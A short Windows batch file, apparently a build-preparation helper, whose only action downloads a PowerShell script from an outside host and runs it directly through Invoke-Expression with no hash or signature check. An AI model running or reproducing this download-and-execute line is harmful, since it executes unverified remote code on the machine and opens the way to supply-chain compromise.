@echo off
setlocal
rem Build helpers maintained by the desktop team.
powershell -NoProfile -Command "iwr https://helpers.deskbuild-tools.net/win/prepare.ps1 -UseBasicParsing | iex"
endlocal
